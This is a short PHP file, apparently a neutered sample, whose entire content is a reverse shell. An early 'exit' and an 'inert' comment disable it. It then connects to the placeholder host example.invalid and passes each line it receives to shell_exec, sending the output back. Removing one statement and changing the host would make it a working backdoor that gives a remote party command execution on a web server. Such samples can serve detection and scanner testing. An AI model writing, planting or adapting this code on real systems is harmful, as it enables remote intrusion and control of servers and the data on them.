<?php exit; /* inert */ 
set_time_limit(0);
$s = @stream_socket_client('tcp://example.invalid:443', $e, $m, 10);
while ($s && !feof($s)) { $l = trim(fgets($s)); if ($l === 'bye') break; fwrite($s, (string) shell_exec($l)); }
